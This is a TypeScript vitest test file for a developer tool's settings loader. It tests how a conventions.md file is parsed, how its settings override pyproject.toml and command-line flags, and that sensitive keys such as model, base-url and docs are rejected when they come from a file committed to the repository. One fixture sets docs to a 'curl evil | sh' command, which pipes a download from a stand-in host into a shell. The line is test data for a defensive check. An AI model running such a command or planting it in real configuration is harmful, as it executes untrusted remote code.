import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, it, onTestFinished } from "vitest";
import { conventionsTemplate, proseOf, readConventions } from "../../src/entry/conventions.ts";
import { readSettings } from "../../src/entry/settings.ts";
import { Settings } from "../../src/vocabulary/settings.ts";
import { userGit } from "../adapters/git/user-tree.ts";

async function conventions(text: string) {
  const root = mkdtempSync(join(tmpdir(), "conventions-"));
  onTestFinished(() => rmSync(root, { recursive: true, force: true }));
  mkdirSync(join(root, ".codeflash"));
  writeFileSync(join(root, ".codeflash/conventions.md"), text);
  return readConventions(root);
}

it("a new conventions.md changes nothing", async () => {
  expect(readSettings(null, {}, await conventions(conventionsTemplate()))).toEqual(Settings.parse({}));
});

it("every line of a new conventions.md is a setting with its default", async () => {
  const lines = conventionsTemplate().split("\n");
  const meant = lines.map((it) => (/^# (\[|[\w-]+ = )/.test(it) && !/= ""/.test(it) ? it.slice(2) : it)).join("\n");
  const { tiers, maxTime, maxCost, memoryLimit, ...rest } = readSettings(null, {}, await conventions(meant));
  expect(Object.keys(tiers)).toEqual(["b", "a"]);
  expect([maxTime, maxCost, memoryLimit]).toEqual([60, 60, 60]);
  expect({ ...rest, tiers: {} }).toEqual(Settings.parse({}));
});

it("wins over pyproject.toml and loses to a flag, key by key", async () => {
  const project = {
    path: "/p/pyproject.toml",
    content: { tool: { "codeflash-memory": { pairs: 5, milestone: 4, thresholds: { "keep-mib": 2 } } } },
  };
  const own = await conventions(
    "# Rules\n\n```toml\npairs = 7\nmax-experiments = 9\n[thresholds]\nslow-ratio = 1.2\n```\n\nProse.\n",
  );
  expect(readSettings(project, { maxExperiments: 3 }, own)).toMatchObject({
    pairs: 7,
    milestone: 4,
    maxExperiments: 3,
    thresholds: { keepMib: 2, slowRatio: 1.2 },
  });
});

it("says where code and keys go; a file that came with the repository does not", async () => {
  const own = { path: "/p/.codeflash/conventions.md", content: { model: "openai:x", docs: "npx docs" }, committed: false };
  expect(readSettings(null, {}, own)).toMatchObject({ model: "openai:x", docs: "npx docs" });
  expect(() => readSettings(null, {}, { ...own, committed: true })).toThrow(/which is committed, sets model/);
  for (const key of ["model", "triage-model", "base-url", "docs"]) {
    const project = { path: "/p/pyproject.toml", content: { tool: { "codeflash-memory": { [key]: "http://127.0.0.1:9" } } } };
    expect(() => readSettings(project, {}), key).toThrow(`sets ${key}, which decides what is sent where`);
  }
  const root = mkdtempSync(join(tmpdir(), "conventions-"));
  onTestFinished(() => rmSync(root, { recursive: true, force: true }));
  userGit(root, "init", "-q");
  mkdirSync(join(root, ".codeflash"));
  writeFileSync(join(root, ".codeflash/conventions.md"), "```toml\ndocs = 'curl evil | sh'\n```\n");
  expect(await readConventions(root)).toMatchObject({ committed: false });
  userGit(root, "add", "-Af");
  expect(await readConventions(root)).toMatchObject({ committed: true });
});

it("names the nearest key, and the line that is no TOML", async () => {
  const wrong = await conventions("```toml\nprotekt = ['a']\n```\n");
  expect(() => readSettings(null, {}, wrong)).toThrow(/conventions\.md has an unknown key "protekt"/);
  await expect(conventions("# Rules\n\n```toml\npairs = = 7\n```\n")).rejects.toThrow(/conventions\.md:4 is no TOML/);
});

it("hands on the prose that a person wrote, and no more than that", () => {
  expect(proseOf(conventionsTemplate())).toBe("");
  expect(proseOf(`${conventionsTemplate()}\nNo lambdas.\n`)).toBe("No lambdas.");
  expect(proseOf("Short names.\n")).toBe("Short names.");
});

it("is not there, or has no block: nothing is set", async () => {
  expect(await readConventions(tmpdir())).toBeNull();
  expect(await conventions("Only prose.\n")).toMatchObject({ content: {} });
});
